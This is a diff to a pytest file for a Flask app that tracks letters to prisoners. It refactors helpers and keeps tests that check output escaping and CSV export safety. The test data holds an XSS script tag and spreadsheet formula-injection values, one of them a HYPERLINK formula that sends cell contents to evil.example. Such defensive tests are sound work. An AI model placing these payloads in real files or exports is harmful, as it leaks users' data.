@@ -11,7 +11,7 @@ from datetime import date, timedelta
 from typing import Any
 
 import pytest
-from conftest import count_statements, inline_scripts, make_facility, make_prisoner
+from conftest import count_statements, inline_scripts, make_facility, make_person, make_prisoner
 from flask import Flask
 from flask.testing import FlaskClient
 from sqlalchemy import select
@@ -40,12 +40,6 @@ FIRST_MONDAY = date(2025, 5, 12)
 SVG = "{http://www.w3.org/2000/svg}"
 
 
-def person(name: str, **fields: Any) -> Prisoner:
-    return make_prisoner(
-        make_facility(), family_name=name, given_names="A", patronymic="", latin_name="", **fields
-    )
-
-
 def sent(
     prisoner: Prisoner, on: date, letters: int = 1, campaign: Campaign | None = None
 ) -> LetterSent:
@@ -70,7 +64,7 @@ def campaign(name: str, **fields: Any) -> Campaign:
 
 
 def test_weekly_letters_sums_letters_by_monday_week(ctx: None) -> None:
-    someone = person("Someone")
+    someone = make_person("Someone")
     sent(someone, TODAY, letters=4)
     sent(someone, TODAY)
     sent(someone, THIS_MONDAY, letters=3)
@@ -191,10 +185,10 @@ def test_chart_has_no_style_attributes(ctx: None) -> None:
 
 
 def test_prisoners_longest_silence_first_never_written_before_all(ctx: None) -> None:
-    recent = person("Recent")
-    old = person("Old")
-    never = person("Never", is_listed=False)
-    released = person("Released", status=Status.RELEASED)
+    recent = make_person("Recent")
+    old = make_person("Old")
+    never = make_person("Never", is_listed=False)
+    released = make_person("Released", status=Status.RELEASED)
     sent(recent, TODAY - timedelta(days=2), letters=2)
     sent(recent, TODAY - timedelta(days=90), letters=5)  # outside the 60 recent days
     sent(old, TODAY - timedelta(days=100))
@@ -241,7 +235,7 @@ def test_prisoner_activity_costs_the_same_for_many_prisoners(ctx: None) -> None:
 
 
 def test_campaigns_count_their_letters_and_the_people_written_to(ctx: None) -> None:
-    one, two = person("One"), person("Two")
+    one, two = make_person("One"), make_person("Two")
     evening = campaign(
         "Evening in May", kind=CampaignKind.EVENING, starts_on=date(2025, 5, 20), goal=10
     )
@@ -286,7 +280,7 @@ def test_campaigns_count_their_letters_and_the_people_written_to(ctx: None) -> N
 
 
 def test_mail_summary_counts_the_chart_weeks_and_lists_the_latest(ctx: None) -> None:
-    one, two = person("One"), person("Two")
+    one, two = make_person("One"), make_person("Two")
     mail.record_reply(one, TODAY)
     mail.record_reply(two, FIRST_MONDAY)
     mail.record_reply(two, FIRST_MONDAY - timedelta(days=1))  # before the chart's weeks
@@ -329,14 +323,13 @@ def test_dashboard_shows_the_chart_campaigns_prisoners_and_mail(
 ) -> None:
     auth.create_and_login()
     today = date.today()
-    with app.app_context():
-        forgotten = person("Forgotten")
-        written = person("<script>alert(1)</script>")
-        drive = campaign("Winter cards", goal=20)
-        sent(written, today, letters=3, campaign=drive)
-        mail.record_return(written, today, ReturnReason.MOVED)
-        db.session.commit()
-        forgotten_id, written_id, drive_id = forgotten.id, written.id, drive.id
+    forgotten = make_person("Forgotten")
+    written = make_person("<script>alert(1)</script>")
+    drive = campaign("Winter cards", goal=20)
+    sent(written, today, letters=3, campaign=drive)
+    mail.record_return(written, today, ReturnReason.MOVED)
+    db.session.commit()
+    forgotten_id, written_id, drive_id = forgotten.id, written.id, drive.id
 
     response = client.get("/manage/dashboard")
 
@@ -367,30 +360,29 @@ def test_letter_log_exports_inert_cells_and_no_volunteer_identity(
     app: Flask, client: FlaskClient, auth: Any
 ) -> None:
     email = auth.create_and_login()
-    with app.app_context():
-        user_id = db.session.scalar(select(User.id).where(User.email == email))
-        trap = make_prisoner(
-            make_facility(),
-            given_names='=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
-            patronymic="",
-            family_name="Trap",
-            latin_name="",
+    user_id = db.session.scalar(select(User.id).where(User.email == email))
+    trap = make_prisoner(
+        make_facility(),
+        given_names='=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
+        patronymic="",
+        family_name="Trap",
+        latin_name="",
+    )
+    plain = make_person("Plain")
+    drive = campaign("+SUM(1,1)")
+    db.session.add(
+        LetterSent(
+            prisoner_id=trap.id,
+            sent_on=date(2025, 3, 2),
+            letters=2,
+            campaign_id=drive.id,
+            via=SentVia.COORDINATOR,
+            user_id=user_id,
         )
-        plain = person("Plain")
-        drive = campaign("+SUM(1,1)")
-        db.session.add(
-            LetterSent(
-                prisoner_id=trap.id,
-                sent_on=date(2025, 3, 2),
-                letters=2,
-                campaign_id=drive.id,
-                via=SentVia.COORDINATOR,
-                user_id=user_id,
-            )
-        )
-        db.session.add(LetterSent(prisoner_id=plain.id, sent_on=date(2025, 3, 1)))
-        db.session.commit()
-        trap_id, plain_id = trap.id, plain.id
+    )
+    db.session.add(LetterSent(prisoner_id=plain.id, sent_on=date(2025, 3, 1)))
+    db.session.commit()
+    trap_id, plain_id = trap.id, plain.id
 
     response = client.get("/manage/letters.csv")
 
